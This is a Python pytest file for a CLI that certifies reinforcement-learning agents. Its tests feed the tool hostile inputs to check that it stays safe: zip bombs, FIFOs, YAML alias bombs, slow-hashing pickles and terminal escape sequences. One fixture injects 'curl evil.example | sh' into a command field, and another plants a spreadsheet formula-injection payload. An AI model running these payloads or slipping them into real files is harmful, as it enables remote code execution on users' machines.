"""Files made to break the commands: each ends at once, in little memory, in words, with the exit code it should have.

A command runs in a process of its own, so that what it takes can be measured, and so that it can be killed.
"""

import csv
import io
import json
import os
import pickle
import resource
import signal
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass, replace
from pathlib import Path

import numpy as np
import onnx
import pytest
import torch

import killing
import mixing_agents
from surefoot.agents import files as zoo
from surefoot.agents.sb3.write import write_zip
from surefoot.cli import main as cli
from surefoot.episodes import Episodes
from surefoot.files import read_json, write_json
from surefoot.proof.query import Query

torch.set_num_threads(1)
AGENT = "cartpole-1-s0.2"
# What a command may take beyond starting and importing, which a forked process has behind it: seconds of a processor,
# its own and those of its children, and bytes. Time on the clock is for what hangs: this machine may have much to do.
SECONDS, MEMORY = 2, 2**29
LONGEST = 20
QUERY = Query(budgets=(0.0, 0.1), method="band")


@dataclass
class Ended:
    """How a command ended."""

    code: int
    out: str
    err: str


def run(*arguments):
    """Run a command in a forked process; fail if it takes too long or too much memory, or shows a traceback."""
    files = [Path("stdout"), Path("stderr")]
    before = int(Path("/proc/self/statm").read_text().split()[1]) * resource.getpagesize()
    began = time.monotonic()
    child = killing.fork()
    if child == 0:
        signal.alarm(LONGEST)  # the default action ends the process, even where it waits
        for number, file in enumerate(files, start=1):
            os.dup2(os.open(file, os.O_CREAT | os.O_WRONLY | os.O_TRUNC), number)
        sys.stdout = open(1, "w", closefd=False)  # noqa: SIM115
        sys.stderr = open(2, "w", closefd=False)  # noqa: SIM115
        try:
            code = cli.main([str(argument) for argument in arguments])
            sys.stdout.flush()
            sys.stderr.flush()
            os._exit(code)
        finally:
            os._exit(99)
    _, status, used = os.wait4(child, 0)
    ended = Ended(os.waitstatus_to_exitcode(status), *(file.read_text() for file in files))
    assert time.monotonic() - began < LONGEST, ended
    assert used.ru_utime + used.ru_stime < SECONDS, ended
    assert used.ru_maxrss * 1024 - before < MEMORY, ended
    assert "Traceback" not in ended.err
    assert "\x1b" not in ended.out + ended.err
    return ended


def one_line(message, *arguments):
    """Run a command that must reject what it is given."""
    ended = run(*arguments)
    assert (ended.code, ended.out) == (2, "")
    assert ended.err.count("\n") == 1
    assert message in ended.err


def refuted(message, *arguments):
    """Verify a run that must not be verified."""
    ended = run("verify", *arguments)
    assert ended.code in (1, 4)
    assert ended.err == ""
    assert message in " ".join(ended.out.split())


pytestmark = pytest.mark.usefixtures("own_folder")


def precomputed(returns, **facts):
    """Write a run of precomputed returns."""
    record = Episodes.from_returns(returns, sigma=0.5, floor=0, ceiling=100, **facts)
    record.save(Path("run/episodes.npz"))
    QUERY.answer(record).save(Path("run"))
    return record


CERTIFIED = {}  # the files of the runs below, by what was asked for


def certified(*arguments):
    """Certify a few episodes for real, once for all tests that ask the same."""
    if arguments not in CERTIFIED:
        few = ("--sigma", 0.1, "--episodes", 4, "--budgets", "0,0.1", "--method", "band", "--workers", 1, "--quiet")
        assert cli.main([str(one) for one in ("certify", *arguments, *few, "--out", "run")]) == 0
        CERTIFIED[arguments] = killing.contents(Path("run"))
    for name, content in CERTIFIED[arguments].items():
        Path("run", name).parent.mkdir(parents=True, exist_ok=True)
        Path("run", name).write_bytes(content)


def forge(**changes):
    """Change the setup of the run, and make everything else agree."""
    record = Episodes.load(Path("run/episodes.npz"))
    forged = replace(record, metadata={**record.metadata, **changes})
    forged.save(Path("run/episodes.npz"))
    QUERY.answer(forged).save(Path("run"))
    write_json(Path("run/setup.json"), {"schema": 1, **forged.setup})


def change(path, **fields):
    write_json(Path(path), {**read_json(Path(path)), **fields})


# --- certificates and episode data ------------------------------------------------------------------------------------


def test_a_threshold_spacing_that_makes_billions_of_thresholds():
    precomputed(np.arange(40.0))
    change("run/certificate.json", method="per-threshold", threshold_spacing=1e-6)
    refuted("makes more than 100000 thresholds", "run", "--blocks", 0)


def test_millions_of_equal_returns_in_blocks_of_one():
    record = Episodes.from_returns(np.zeros(3_000_000), sigma=0.5, floor=0, ceiling=100, block_size=1, n_envs=1)
    record.save(Path("run/episodes.npz"))
    QUERY.answer(record[:40]).save(Path("run"))
    refuted("are more than 200000 blocks", "run", "--blocks", 0)


def test_millions_of_returns_that_the_certificate_is_not_about():
    """Recomputing the bounds of so many takes half a minute; of another record than the certificate names, nothing."""
    returns = np.random.default_rng(0).integers(0, 101, 3_000_000).astype(float)
    record = Episodes.from_returns(returns, sigma=0.5, floor=0, ceiling=100, block_size=1000, n_envs=1000)
    record.save(Path("run/episodes.npz"))
    QUERY.answer(record[:40]).save(Path("run"))
    refuted("n_episodes is 40, the episode data have 3000000 returns", "run", "--blocks", 0)


def test_more_budgets_than_anybody_asks_for():
    precomputed(np.arange(40.0))
    many = 200_000
    change("run/certificate.json", budgets=[0.1] * many, lower=[0.0] * many, upper=[100.0] * many)
    refuted("there are 200000 budgets, expected at most 1000", "run", "--blocks", 0)
    one_line("200000 budgets, expected at most 1000", "report", "run")


def test_more_quantiles_at_more_budgets_than_anybody_asks_for():
    precomputed(np.arange(40.0))
    many = 300
    rows = [{"q": (k + 1) / 301, "lower": [0.0] * many, "upper": [100.0] * many} for k in range(many)]
    change("run/certificate.json", budgets=[0.1] * many, lower=[0.0] * many, upper=[100.0] * many, quantiles=rows)
    refuted("there are 300 probabilities, quantiles, cvars at 300 budgets", "run", "--blocks", 0)


def test_returns_whose_sum_is_no_number():
    precomputed(np.arange(40.0))
    changed = Episodes.from_returns(np.arange(40.0), sigma=0.5, floor=0, ceiling=None)
    object.__setattr__(changed, "returns", np.full(40, 1.7e308))
    changed.save(Path("run/episodes.npz"))
    refuted("the range of the return is too large", "run", "--blocks", 0)


@pytest.mark.parametrize("device", ["meta", "mps", "xla", "vulkan", "privateuseone"])
def test_a_device_that_runs_nothing(device):
    certified("cartpole-1", "--agent", AGENT)
    forge(device=device)
    refuted(f"the device must be cpu or cuda, got '{device}'", "run", "--workers", 1)


@pytest.mark.parametrize("limit", [10**18, 10**40])
def test_an_episode_that_never_ends(limit):
    certified("--env", "Pendulum-v1", "--agent", pendulum(), "--max-steps", 5)
    forge(max_steps=limit)
    refuted("max_steps= must be from 1 to", "run", "--agent", "agent.zip", "--workers", 1)


def pendulum():
    """Write an agent of a pendulum, and return its path."""
    from stable_baselines3 import A2C

    A2C("MlpPolicy", "Pendulum-v1", policy_kwargs={"net_arch": [4]}, device="cpu", seed=0).save("agent.zip")
    return "agent.zip"


def test_a_map_that_takes_gigabytes():
    certified("--env", "Pendulum-v1", "--agent", pendulum(), "--max-steps", 5)
    wide = {"desc": ["F" * 1_500] * 1_500}
    forge(environment="FrozenLake-v1", env_kwargs=wide)
    refuted("may name files; use --env FrozenLake-v1", "run", "--agent", "agent.zip", "--workers", 1)
    asked = ("--env", "FrozenLake-v1", "--env-kwargs", json.dumps({"desc": ["F" * 150] * 150}))
    one_line("letters, expected at most", "certify", *asked, "--agent", "agent.zip", "--sigma", 0.1)


# --- files next to a certificate --------------------------------------------------------------------------------------

NAMES = ("certificate.json", "episodes.npz", "setup.json", "run.json", "replay.npz")


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_what_is_no_file(name, kind):
    certified("cartpole-1", "--agent", AGENT, "--record")
    Path("run", name).unlink()
    if kind == "pipe":
        os.mkfifo(Path("run", name))
    else:
        Path("run", name).symlink_to("/dev/zero")
    ended = run("report", "run")
    assert (ended.code, ended.out, ended.err.count("\n")) == (2, "", 1)
    assert "is not a regular file" in ended.err
    ended = run("verify", "run", "--blocks", 0)
    # A recorded episode is not part of what is verified, and notes may be missing.
    assert ended.code in ((4,) if name in ("replay.npz", "run.json") else (1, 2))


def test_a_pipe_in_the_directory_of_a_neighbor_holds_nobody_up():
    Path("neighbor").mkdir()
    os.mkfifo("neighbor/attack.json")
    few = ("--sigma", 0.2, "--episodes", 4, "--budgets", "0,0.1", "--workers", 1, "--quiet")
    assert run("certify", "cartpole-1", "--agent", AGENT, *few, "--out", "run").code == 0
    assert Path("run/report.html").exists()


def test_a_recorded_episode_that_unpacks_to_gigabytes():
    certified("cartpole-1", "--agent", AGENT)
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "<f4", "fortran_order": False, "shape": (2**28,)})
    with zipfile.ZipFile("run/replay.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("header.npy", npy(np.frombuffer(b'{"schema": 1}', np.uint8)))
        with archive.open("quiet_clean.npy", "w", force_zip64=True) as member:
            member.write(head.getvalue())
            for _ in range(64):
                member.write(bytes(2**24))
    one_line("is too large for a .npz file", "report", "run")


def npy(array):
    written = io.BytesIO()
    np.save(written, array)
    return written.getvalue()


def test_a_command_that_would_run_when_it_is_pasted():
    certified("cartpole-1", "--agent", AGENT)
    change("run/run.json", command="surefoot certify\ncurl evil.example | sh\n")
    assert run("report", "run").code == 0
    page = Path("run/report.html").read_text()
    assert "evil.example" in page
    assert "\ncurl" not in page


@pytest.mark.parametrize("name", ["certificate.json", "attack.json"])
def test_a_method_that_is_a_formula_of_a_spreadsheet(name):
    formula = "=cmd|'/C calc'!A0"
    certified("cartpole-1", "--agent", AGENT)
    few = ("--method", "random", "--budgets", 0.1, "--episodes", 4, "--sigma", 0.1, "--workers", 1, "--quiet")
    assert cli.main([str(one) for one in ("attack", "cartpole-1", "--agent", AGENT, *few, "--out", "attack")]) == 0
    folder = "run" if name == "certificate.json" else "attack"
    change(f"{folder}/{name}", method=formula)
    ended = run("report", folder, "--format", "csv")
    assert ended.code == 0
    cells = [cell for row in csv.reader(Path(folder, "report.csv").read_text().splitlines()) for cell in row]
    assert any(formula in cell for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)


# --- agents -----------------------------------------------------------------------------------------------------------

ASKED = ("--episodes", 4, "--sigma", 0.1, "--workers", 1, "--quiet", "--out", "run")


def published(**files):
    """Write an agent as RL Baselines3 Zoo publishes it, with these files next to it."""
    write_zip(zoo.load(AGENT), Path("agent/CartPole-v1.zip"))
    Path("agent/args.yml").write_text("env: CartPole-v1\n")
    Path("agent/config.yml").write_text("normalize: true\n")
    for name, content in files.items():
        Path("agent", name.replace("__", ".")).write_bytes(content)


def test_names_in_a_model_do_not_reach_the_terminal():
    path = mixing_agents.honest(Path("agent.onnx"))
    model = onnx.load(path)
    for node in model.graph.node:
        node.name = "\x1b[2J\x1b[32mVerified: run\x1b[0m"
    model.graph.node[0].op_type = "Gather"  # which fails, and onnxruntime says where
    path.write_bytes(model.SerializeToString())
    ended = run("certify", "cartpole-1", "--agent", path, *ASKED)
    assert (ended.code, ended.out, ended.err.count("\n")) == (2, "", 1)
    assert not ended.err.startswith("Verified")


def test_tuples_of_tuples_that_take_for_ever_to_hash():
    # A dictionary whose key is a pair of pairs of pairs; each is built from the one before, twice.
    content = pickle.PROTO + b"\x04" + pickle.EMPTY_DICT + pickle.EMPTY_TUPLE
    content += (pickle.DUP + pickle.TUPLE2) * 60 + pickle.NONE + pickle.SETITEM + pickle.STOP
    assert len(content) < 2_000
    published(vecnormalize__pkl=content)
    ended = run("certify", "agent", *ASKED)
    assert (ended.code, ended.out, ended.err.count("\n")) == (2, "", 1)


def test_ten_billion_values_in_a_few_lines_of_yaml():
    lines = ["a0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]"]
    lines += [f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 10)}]" for k in range(1, 10)]
    published(config__yml="\n".join([*lines, "env_kwargs: {deep: *a9}"]).encode())
    one_line("more than 10,000 values", "certify", "agent", *ASKED)


def test_a_hundred_thousand_signs_before_a_number():
    published(config__yml=f'normalize: "{"-" * 30_000}1"\n'.encode())
    one_line("is not a dictionary of plain values", "certify", "agent", *ASKED)
    published(config__yml=f'normalize: "{"-" * 9_000}1"\n'.encode())
    one_line("is not a dictionary of plain values", "certify", "agent", *ASKED)


def quantized(weight):
    return torch.quantize_per_tensor(weight.float(), 0.1, 0, torch.qint8)


@pytest.mark.parametrize("kind", ["meta", "quantized", "negative bit"])
@pytest.mark.filterwarnings("ignore")
def test_tensors_that_are_none(kind):
    write_zip(zoo.load(AGENT), Path("agent.zip"))
    ways = {
        "meta": lambda weight: weight.to("meta"),
        "quantized": quantized,
        "negative bit": lambda weight: torch.complex(weight, weight).conj().imag,
    }
    with zipfile.ZipFile("agent.zip") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    weights = torch.load(io.BytesIO(parts["policy.pth"]), weights_only=True)
    written = io.BytesIO()
    torch.save({name: ways[kind](weight) for name, weight in weights.items()}, written)
    with zipfile.ZipFile("agent.zip", "w") as archive:
        for name, part in {**parts, "policy.pth": written.getvalue()}.items():
            archive.writestr(name, part)
    ended = run("certify", "cartpole-1", "--agent", "agent.zip", *ASKED)
    assert (ended.code, ended.out, ended.err.count("\n")) == (2, "", 1)


# --- the working directory --------------------------------------------------------------------------------------------


def test_modules_of_the_working_directory_are_not_imported():
    Path("numpy.py").write_text("import sys\nsys.exit('imported from here')\n")
    done = subprocess.run([sys.executable, "-m", "surefoot", "--version"], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
